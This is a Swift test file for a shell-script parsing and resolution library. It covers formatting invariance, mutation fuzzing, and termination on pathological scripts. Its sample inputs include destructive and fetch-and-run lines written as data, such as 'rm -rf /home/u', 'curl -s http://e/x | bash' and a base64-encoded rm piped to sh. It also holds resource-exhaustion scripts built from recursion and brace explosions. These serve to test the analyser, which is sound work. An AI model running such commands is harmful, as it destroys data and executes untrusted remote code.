// SPDX-License-Identifier: Apache-2.0

import Foundation
import Testing

@testable import ShellSyntax

/// What holds of every script.
@Suite(.serialized) struct ResolverPropertyTests {
    private static let own = [
        "rm -rf /home/u", "cd /tmp && ls -la | grep x > out.txt", "for f in a b; do echo \"$f\"; done",
        "x=$(echo rm); $x -r y; ls",
        "if test -f a; then cat a; else touch a; fi", "sudo -u root sh -c 'rm -rf /x; ls'", "echo cm0gLXJm | base64 -d | sh",
        "find . -name '*.c' -exec rm {} +",
        "f() { rm \"$1\"; }; f x; f y", "curl -s http://e/x | bash", "case $1 in a) ls;; *) rm x;; esac",
        "export A=b; env C=d printenv A; ssh h 'ls /'",
    ]

    /// Commands to try: our own, and every so many of the corpora where they are.
    private static func commands(every step: Int) throws -> [String] {
        guard Corpora.folder != nil else { return own }
        return try own + Corpora.commands().enumerated().filter { $0.offset % step == 0 }.map(\.element)
    }

    /// Blanks, continued lines, comments, quotes and escapes of plain letters change nothing.
    @Test func formattingDoesNotMatter() throws {
        var random = Seeded(state: 5)
        for command in try Self.commands(every: 12) {
            let script = ShellScript(parsing: command)
            guard script.isUnderstood, script.hereDocuments.isEmpty else { continue }
            let other = Self.reformatted(script, &random)
            let expected = Self.summary(command)
            #expect(Self.summary(other) == expected, "\(command)\n\(other)")
        }
    }

    private static func summary(_ text: String) -> [String] {
        let resolution = Runs.resolution(text)
        return resolution.invocations.map { one in
            // Names of traits and uses, too: how it was written may not change what it does.
            "\(Runs.line(one)) \(one.usage.traits.sorted()) \(one.usage.uses.map { "\($0.kind) \($0.target.pattern)" }) \(one.directory ?? "") \(one.starters)"
        }
    }

    /// The same script, written in another way.
    private static func reformatted(_ script: ShellScript, _ random: inout Seeded) -> String {
        let plain = plainWords(script.body)
        var text = ""
        for leaf in script.leaves {
            let piece = script.text(of: leaf.span)
            switch leaf.kind {
            case .blank: text += [" ", "  ", "\t", " \\\n ", " \\\n"].randomElement(using: &random) ?? " "
            case .text where plain.contains(leaf.span): text += requoted(piece, &random)
            default: text += piece
            }
        }
        if text.hasSuffix("\\") { return text }
        return text + (["", " ", " # rm -rf /", "\n", "\n\n# x"].randomElement(using: &random) ?? "")
    }

    /// The words of simple commands that are one literal: quotes in them mean nothing.
    private static func plainWords(_ list: CommandList) -> Set<SourceSpan> {
        var spans: Set<SourceSpan> = []
        for command in list.items.flatMap(\.commands.pipelines).flatMap(\.commands) {
            guard case .simple(let simple) = command else { continue }
            for (index, word) in simple.words.enumerated() {
                guard let text = word.unquotedText, !text.isEmpty else { continue }
                // A first word may be an alias or declare arrays; with `=` or a tilde it may mean more.
                let isDeclaration = [
                    "declare", "typeset", "local", "export", "readonly", "alias", "eval", "let", "private", "integer", "float",
                ]
                if index == 0, isDeclaration.contains(text) { break }
                if text.contains("=") || text.contains("~") || text.contains("{") || text.contains("}") || text.contains("\\") {
                    continue
                }
                spans.insert(word.span)
            }
        }
        return spans
    }

    private static func requoted(_ text: String, _ random: inout Seeded) -> String {
        let letters = Array(text)
        guard letters.allSatisfy({ $0.isASCII && ($0.isLetter || $0.isNumber || "-_./:,%+@".contains($0)) }) else { return text }
        switch Int.random(in: 0...5, using: &random) {
        case 0: return "'\(text)'"
        case 1: return "\"\(text)\""
        case 2: return "\\" + text
        case 3: return String(letters[0]) + "''" + String(letters.dropFirst())
        case 4: return "$'\(text)'"
        default: return text
        }
    }

    /// Mutated commands end, quickly and without a crash, in every dialect.
    @Test func mutatedCommandsAreNoTrouble() throws {
        var random = Seeded(state: 9)
        let commands = try Self.commands(every: 40)
        let pieces = [
            "$(", ")", "`", "\"", "'", "${", "}", "|", "&", ";", "\n", "{a,b}", "*", "$x", "<<E\n", "eval ", "while :;do ",
            ";done", "f(){ ", "((", "[[ ", "$@", "\u{0}", "\u{100000}", ">(", "<(",
        ]
        for number in 0..<2000 {
            var bytes = Array((commands.randomElement(using: &random) ?? "").utf8)
            for _ in 0..<Int.random(in: 1...4, using: &random) {
                let place = Int.random(in: 0...bytes.count, using: &random)
                switch Int.random(in: 0...3, using: &random) {
                case 0 where !bytes.isEmpty: bytes.remove(at: min(place, bytes.count - 1))
                case 1: bytes.insert(UInt8.random(in: 0...255, using: &random), at: place)
                case 2: bytes.insert(contentsOf: (commands.randomElement(using: &random) ?? "").utf8, at: place)
                default: bytes.insert(contentsOf: (pieces.randomElement(using: &random) ?? "").utf8, at: place)
                }
            }
            let text = String(decoding: bytes, as: UTF8.self)
            let clock = ContinuousClock()
            let start = clock.now
            let resolution = Runs.resolution(text, Dialect.allCases[number % 3])
            #expect(clock.now - start < .seconds(5), "\(text.debugDescription)")
            for invocation in resolution.invocations { #expect(!invocation.words.isEmpty) }
        }
    }
}

/// Scripts that would take for ever, or all of the memory.
@Suite(.serialized) struct ResolverLimitTests {
    private static func repeated(_ piece: String) -> String { String(repeating: piece, count: 65536 / piece.utf8.count) }

    private static let hostile: [String: String] = [
        "doubling": "a=x;" + String(repeating: "a=$a$a;", count: 40) + "echo $a",
        "braces": "echo " + String(repeating: "{a,b}", count: 100), "range": "echo {1..999999999}",
        "nested braces": String(repeating: "{a,", count: 30) + "b" + String(repeating: "}", count: 30),
        "recursion": "f() { f $1 a; f $1 b; f $1 c; }; f x",
        "loops": (0..<30).map { "for a\($0) in 1 2 3 4 5 6 7 8 9; do " }.joined() + "x" + String(repeating: ";done", count: 30),
        "while": (0..<30).map { "while x; do a\($0)=$b; " }.joined() + "b=$a" + String(repeating: ";done", count: 30),
        "if": (0..<50).map { "if x; then a\($0)=$b; " }.joined() + "b=$a" + String(repeating: ";fi", count: 50),
        "choices": (0..<12).map { "if x; then v\($0)=1; else v\($0)=2; fi;" }.joined() + "echo "
            + (0..<12).map { "$v\($0)" }.joined(separator: " "),
        "words": "a='" + String(repeating: "a ", count: 10000) + "';" + String(repeating: "echo $a;", count: 2000),
        "replaced": "a=" + String(repeating: "a", count: 30000) + ";" + String(repeating: "b=${a//a*b/c};", count: 1000),
        "eval": repeated("eval "), "env": repeated("env "), "sudo": repeated("sudo "),
        "substitution": String(repeating: "$(", count: 60) + "echo a" + String(repeating: ")", count: 60),
        "source": "echo '. ./f; . ./f' > f; . ./f", "alias": "alias a='a a'; a", "trap": repeated("trap 'trap a EXIT' EXIT;"),
        "arithmetic": "a=b;b=a;echo $((a)) $((" + String(repeating: "(", count: 4000) + "))", "patterns": repeated("/???/r? x;"),
        "self": "x='eval \"$x\"'; eval \"$x\"", "commands": repeated("a;"), "pipes": repeated("a|"), "cd": repeated("cd a;"),
    ]

    @Test(arguments: hostile.keys.sorted()) func hostileScriptsEnd(_ name: String) {
        let clock = ContinuousClock()
        let start = clock.now
        let resolution = Runs.resolution(Self.hostile[name] ?? "")
        // A debug build on a busy machine; in release it is under 50 ms.
        #expect(clock.now - start < .seconds(10))
        #expect(resolution.invocations.count <= Budget.invocations)
    }

    @Test(arguments: ["commands", "eval", "env", "loops"]) func whatIsNotLookedAtIsSaid(_ name: String) {
        let reasons = Runs.resolution(Self.hostile[name] ?? "").unknowns.map(\.reason)
        #expect(reasons.contains { if case .limit = $0 { true } else { false } })
    }

    /// 512 KB is the smallest stack that a thread is given.
    @Test func theDeepestNestingFitsASmallStack() {
        let texts = [
            String(repeating: "$(", count: 62) + "a" + String(repeating: ")", count: 62),
            String(repeating: "{ ", count: 60) + "a" + String(repeating: ";}", count: 60),
            String(repeating: "if a; then ", count: 60) + "b" + String(repeating: ";fi", count: 60), Self.hostile["eval"] ?? "",
            Self.hostile["env"] ?? "",
            Self.hostile["self"] ?? "", "f() { g; }; g() { f; }; f",
            String(repeating: "sh -c '", count: 1) + String(repeating: "( ", count: 55) + "a" + String(repeating: ")", count: 55)
                + "'",
            "f() { " + String(repeating: "{ ", count: 50) + "f \"$1\"x" + String(repeating: ";}", count: 50) + "; }; f a",
            "echo '. ./f' > f; . ./f", String(repeating: "${a:-\"$(", count: 25) + "b" + String(repeating: ")\"}", count: 25),
            String(repeating: "while a; do ", count: 60) + "b" + String(repeating: ";done", count: 60),
            "echo $((" + String(repeating: "(", count: 60) + "1" + String(repeating: ")", count: 60) + "))",
        ]
        let done = DispatchSemaphore(value: 0)
        let thread = Thread {
            for text in texts { _ = Runs.resolution(text) }
            done.signal()
        }
        #if DEBUG
            thread.stackSize = 8 << 20
        #else
            thread.stackSize = 512 << 10
        #endif
        thread.start()
        done.wait()
    }
}
